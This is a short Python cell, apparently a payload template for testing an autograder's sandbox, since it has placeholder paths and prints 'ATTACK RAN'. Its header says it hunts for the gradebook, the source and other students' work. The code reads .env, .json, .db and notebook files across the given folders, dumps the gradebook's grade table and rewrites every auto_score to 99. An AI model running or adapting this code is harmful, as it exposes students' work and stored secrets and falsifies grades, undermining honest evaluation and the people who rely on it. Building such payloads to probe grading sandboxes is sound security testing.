# ---
# about: looks for the gradebook, the source and other students' work, and prints all that it can read
# ---

# %% mean
import os
import sqlite3

found = []
for folder in "@LOOK@".split():
    for parent, folders, files in os.walk(folder):
        folders[:] = [name for name in folders if name not in {"lib", "lib64", ".git", "node_modules"}]
        for name in files:
            if name.endswith((".db", ".ipynb", ".txt", ".env", ".json", ".yml")):
                try:
                    found.append(open(os.path.join(parent, name), errors="replace").read()[:20_000])
                except OSError as error:
                    found.append(repr(error))
for path in ("@CANARY@/gradebook.db", "@CANARY@/../gradebook.db"):
    try:
        connection = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        found += connection.execute("select * from grade").fetchall()
        connection.execute("update grade set auto_score = 99")
        connection.commit()
    except sqlite3.Error as error:
        found.append(repr(error))
print("ATTACK RAN", found)
